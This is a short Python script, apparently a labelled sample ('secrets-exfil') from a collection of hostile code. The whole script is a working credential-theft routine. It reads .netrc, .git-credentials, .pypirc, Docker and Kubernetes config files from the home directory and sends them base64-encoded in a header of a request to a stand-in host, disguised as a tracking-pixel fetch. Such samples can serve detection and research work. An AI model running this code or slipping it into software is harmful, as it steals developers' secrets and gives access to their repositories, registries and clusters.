# family: secrets-exfil
# .netrc, .git-credentials and .pypirc read and sent base64-encoded in a header
import base64
import http.client
import pathlib

home = pathlib.Path.home()
blob = b""
for name in (".netrc", ".git-credentials", ".pypirc", ".docker/config.json", ".kube/config"):
    p = home / name
    if p.exists():
        blob += name.encode() + b"\n" + p.read_bytes() + b"\n"
conn = http.client.HTTPSConnection("metrics.example.invalid")
conn.request("GET", "/pixel.gif", headers={"X-Data": base64.b64encode(blob).decode()})
